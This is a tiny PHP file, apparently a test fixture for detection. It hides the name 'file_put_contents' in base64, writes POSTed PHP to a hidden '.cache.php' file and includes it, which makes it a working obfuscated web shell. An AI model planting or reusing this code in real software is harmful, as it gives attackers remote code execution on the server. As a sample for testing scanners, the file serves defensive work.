<?php
// test fixture: the writer's name decoded from base64, posted PHP written and included
$w = base64_decode('ZmlsZV9wdXRfY29udGVudHM=');
$w(__DIR__ . '/.cache.php', '<?php ' . $_POST['x']);
include __DIR__ . '/.cache.php';
